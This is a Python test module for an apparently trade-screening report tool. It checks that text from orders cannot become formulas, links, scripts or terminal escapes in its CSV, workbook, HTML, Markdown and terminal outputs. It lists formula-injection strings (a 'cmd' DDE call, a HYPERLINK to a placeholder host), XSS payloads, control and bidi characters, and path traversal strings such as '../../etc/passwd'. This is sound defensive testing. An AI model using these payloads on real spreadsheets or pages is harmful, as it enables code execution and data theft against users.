"""What an order says stays a text, whatever output it stands in and whatever opens that."""

from __future__ import annotations

import csv
import html.parser
import io
import json
import re
import zipfile

import openpyxl
import polars
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from redflags.model.case_file import file_of_order
from redflags.model.cases import Case, CaseAsk, CaseLink, CaseOrder, CaseParty
from redflags.model.comparisons import Baseline, OrderChange
from redflags.model.report import Cases, Report
from redflags.model.results import (
    Ask,
    Citation,
    Counterfactual,
    FileUsed,
    InputRead,
    Lowered,
    Misread,
    Participant,
    SetAside,
    WhatIf,
    WindowEvidence,
    WindowLink,
    WorthAsking,
)
from redflags.writers import write_report
from redflags.writers.case_file import write_case_file
from redflags.writers.cases import write_case
from redflags.writers.explanation import write_explanation
from redflags.writers.harmless import markdown_text, spreadsheet_cell
from tests.handmade_reports import assessment, condition, flag, incomplete, place, report
from tests.test_writers_cases import case

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＠SUM(1)",
    "a;=1+1",
    'a;"=1+1',
    "a\t@SUM(1)",
)
MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!--",
    "]]>",
    "&lt;script&gt;",
    '"><svg onload=alert(1)>',
    "' onfocus='alert(1)",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "![x](http://example.invalid/x.png)",
    "<http://example.invalid>",
    "http://example.invalid/x www.example.invalid",
    "| a | b |",
    "`code` **bold** _em_ ~~gone~~",
    "# heading",
    "- item",
    "1. item",
    "```",
)
STEERING = (
    "\x00",
    "\x07\x08\x1b[2J\x1b]0;title\x07",
    "\x7f\x80\x9b31m",
    "\u202egpj.exe\u202c",
    "\u2066a\u2069\u200f\u200e\u061c",
    "a\u2028b\u2029c",
    "\ufeffa\u200bb",
    "\ud800",
    "a\r\nb",
)
PATHS = ("../../etc/passwd", "C:\\Windows\\system32", "file:///etc/passwd", "con", "a/b\\c")
INTACT = (
    "Şanlıurfa İğdır çöğüş",
    "هواتف المثال",
    "نترات الأمونيوم ١٢٣",
    "移动电话店",
    "ООО Пример",
)
TEXTS = (*FORMULAS, *MARKUP, *STEERING, *PATHS)

BIDI = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def made_of(text: str) -> Report:
    """A report in which every text from outside is this one."""
    shown = flag(
        rule=text,
        title=text,
        sentence=text,
        why=text,
        conditions=(
            condition(
                sentence=text, written=text, understood=text, how=text, assumed=text, column=text
            ),
        ),
        ask=(Ask(of=text, text=text),),
        lines=(place(2, text),),
        lowered=(Lowered(by=1, because=text),),
        source=(Citation(document=text, title=text, year=text, flags=(text,)),),
        window=WindowEvidence(
            key=text,
            orders=(text, f"{text} 2"),
            count=2,
            lines=2,
            first="2025-01-01",
            last="2025-01-02",
            sentences=(text,),
            links=(WindowLink(one=text, other=text, by="phone", written=text),),
        ),
    )
    told = WhatIf(
        line="medium",
        counterfactuals=(
            Counterfactual(
                changes=(),
                can_be_checked=True,
                score=0.0,
                bits=0,
                band="none",
                sentence=text,
            ),
        ),
        worth_asking=(
            WorthAsking(
                fields=("quantity",),
                columns=(text,),
                could_add=1,
                could_remove=0,
                highest="high",
                lowest="high",
                sentence=text,
            ),
        ),
    )
    one = assessment(
        order_id=text,
        parties=text,
        goods=text,
        destination=text,
        lines=(place(2, text),),
        flags=(shown,),
        incomplete=(incomplete(title=text, because=(text,)),),
        what_if=told,
        participants=(
            Participant(role="buyer", name=text, business=text, city=text, country=text),
            Participant(role="consignee", name=text, business=text, city=text, country=text),
        ),
    )
    changed = OrderChange(
        order_id=text,
        change="new",
        band="high",
        band_before="none",
        score=60.0,
        score_before=0.0,
        new_flags=(text,),
        grown_flags=(text,),
        parties=text,
        goods=text,
    )
    gone = changed.model_copy(update={"change": "gone", "band": "none", "order_id": f"{text} "})
    since = Baseline(
        path=text,
        sha256="0" * 64,
        notes=(text,),
        new=1,
        raised=0,
        lowered=0,
        changed=0,
        gone=1,
        unchanged=0,
        orders=(changed, gone),
    )
    read = InputRead(path=text, sha256="0" * 64, rows=1, unused_columns=(text,), notes=(text,))
    made = report(
        one,
        misread_cells=1,
        misread=(Misread(file=text, row=2, column=text, written=text, why=text),),
        rows_set_aside=(SetAside(file=text, row=3, line=3, reason=text, text=text),),
    )
    used = FileUsed(path=text, sha256="0" * 64)
    beside = {"history": (read,), "mapping": used, "answers": used, "rates": used}
    run = made.run.model_copy(update={"inputs": (read,), **beside})
    return made.model_copy(update={"baseline": since, "run": run, "cases": Cases([case_of(text)])})


def case_of(text: str) -> Case:
    """A case in which every text from outside is this one."""
    party = CaseParty(name=text, country=text, roles=("buyer",), orders=2, also_written=(text,))
    return case(
        orders=(text, f"{text} 2"),
        parties=(party, party),
        links=(
            CaseLink(kind="party", parties=(text,), orders=(text,), sentence=text),
            CaseLink(
                kind="phone", parties=(text,), orders=(text,), written=text, sentence=text
            ),
        ),
        ask=(CaseAsk(of=text, text=text, orders=(text,)),),
        timeline=tuple(
            CaseOrder(
                order_id=f"{text}{more}", alert=True, parties=text, goods=text,
                flags=(text,), lines=(place(2, text),),
            )
            for more in ("", " 2")
        ),
        perhaps_same=(text,),
        left_out=(text,),
    )  # fmt: skip


def text_of(made: Report, name: str) -> str:
    stream = io.StringIO()
    write_report(made, name, stream)
    return stream.getvalue()


def file_text(made: Report, name: str) -> str:
    stream = io.StringIO()
    write_case_file(file_of_order(made.run, made.assessments[0], made.cases[0]), name, stream)
    return stream.getvalue()


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_no_cell_of_the_csv_is_a_formula_or_steers(text: str) -> None:
    out = text_of(made_of(text), "csv")
    assert not BIDI.search(out)
    assert not CONTROL.search(out)
    for row in csv.reader(io.StringIO(out, newline="")):
        for cell in row:
            assert not cell.lstrip(" ").startswith(tuple("=+-@\t\r\n＝＋－＠"))
    # Opened by a spreadsheet that splits at semicolons or tabs, too.
    for cell in re.split(r"[;\t,]", out.replace("\r\n", ",")):
        assert not cell.strip(' "').startswith(tuple("=@＝＠"))


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(text: str) -> None:
    stream = io.BytesIO()
    write_report(made_of(text), "xlsx", stream)
    book = openpyxl.load_workbook(stream)
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert cell.hyperlink is None
                if isinstance(cell.value, str):
                    assert not cell.value.lstrip(" ").startswith(tuple("=+-@\t\r\n＝＋－＠"))
                    assert not BIDI.search(cell.value)
    with zipfile.ZipFile(stream) as parts:
        assert not [name for name in parts.namelist() if "external" in name.lower()]


@pytest.mark.parametrize("text", INTACT)
def test_letters_of_all_scripts_are_intact(text: str) -> None:
    made = made_of(text)
    stream = io.BytesIO()
    write_report(made, "xlsx", stream)
    assert openpyxl.load_workbook(stream)["Alerts"]["A2"].value == text
    stream = io.BytesIO()
    write_report(made, "parquet", stream)
    stream.seek(0)
    assert polars.read_parquet(stream)["order_id"].to_list() == [text]
    for name in ("csv", "md", "html", "json", "table"):
        assert text in text_of(made, name)
    for name in ("md", "html", "json"):
        assert text in file_text(made, name)


class _Page(html.parser.HTMLParser):
    """The elements and attributes of a page, scripts and styles left out."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: set[str] = set()
        self.scripts = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)
        given = dict(attrs)
        self.scripts += tag == "script" and "type" not in given
        self.addresses.update(
            value or "" for name, value in attrs if name in ("href", "src", "action", "data")
        )


def page_of(text: str) -> _Page:
    parser = _Page()
    parser.feed(text)
    parser.close()
    return parser


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_a_page_holds_the_same_elements_whatever_the_orders_say(text: str) -> None:
    for write, scripts in ((lambda one: text_of(one, "html"), 1), (_case_page, 0)):
        plain, found = page_of(write(made_of("plain"))), page_of(write(made_of(text)))
        assert found.tags <= plain.tags
        assert found.attributes <= plain.attributes
        assert found.scripts == scripts
        assert all(address.startswith("#") for address in found.addresses)
        assert not BIDI.search(write(made_of(text)))
        assert not CONTROL.search(write(made_of(text)))


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_a_terminal_is_not_steered_by_one_order_or_one_case(text: str) -> None:
    stream = io.StringIO()
    write_explanation(made_of(text).assessments[0], (), stream)
    write_case(case_of(text), stream)
    out = stream.getvalue()
    assert out.count("\n") > 20
    assert not BIDI.search(out)
    assert not CONTROL.search(out)


def _case_page(made: Report) -> str:
    return file_text(made, "html")


def test_a_page_can_load_nothing_and_run_nothing_else() -> None:
    for text in (text_of(made_of("x"), "html"), file_text(made_of("x"), "html")):
        [policy] = re.findall(r'Content-Security-Policy" content="([^"]*)"', text)
        assert "default-src &#x27;none&#x27;" in policy
        assert "unsafe" not in policy
        assert not re.search(r"(?:src|href)=.?(?:https?:)?//", text)
        assert not re.search(r"\bstyle=|@import|url\(", text)


def test_the_scripts_of_a_page_never_read_text_as_html() -> None:
    text = text_of(made_of("x"), "html")
    for way in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(",
                "new Function", "fetch(", "XMLHttpRequest", "import(", "srcdoc"):  # fmt: skip
        assert way not in text


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_markdown_becomes_text_only(text: str) -> None:
    for out in (text_of(made_of(text), "md"), file_text(made_of(text), "md")):
        assert not BIDI.search(out)
        assert not CONTROL.search(out)
        out.encode("utf-8")
        rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(out)
        found = page_of(rendered)
        assert not found.tags & {"script", "img", "svg", "a", "iframe", "del"}
        assert found.addresses == set()


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_a_terminal_is_not_steered(text: str) -> None:
    out = text_of(made_of(text), "table")
    assert not BIDI.search(out)
    assert not CONTROL.search(out)


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_data_formats_keep_the_text_as_it_is(text: str) -> None:
    made = made_of(text)
    assert json.loads(text_of(made, "json"))["assessments"][0]["goods"] == text
    assert json.loads(text_of(made, "jsonl"))["goods"] == text
    assert json.loads(file_text(made, "json"))["orders"][0]["goods"] == text
    stream = io.BytesIO()
    write_report(made, "parquet", stream)
    stream.seek(0)
    whole = text.encode("utf-8", "replace").decode()
    assert polars.read_parquet(stream)["goods"].to_list() == [whole]


@given(st.text(max_size=60))
def test_a_harmless_cell_stays_harmless(text: str) -> None:
    once = spreadsheet_cell(text)
    assert not once.lstrip(" ").startswith(tuple("=+-@\t\r\n"))
    assert not BIDI.search(once)
    once.encode("utf-8")
    assert spreadsheet_cell(once) == once


@given(st.text(max_size=60))
def test_a_text_in_markdown_shows_as_it_is_written(text: str) -> None:
    from redflags.values.text import display

    shown = display(text).encode("utf-8", "replace").decode("utf-8")
    rendered = MarkdownIt("commonmark").renderInline("x " + markdown_text(shown) + " x")
    told = html.unescape(re.sub(r"<[^>]*>", "", rendered))
    assert " ".join(told.split()) == " ".join(f"x {shown} x".split())
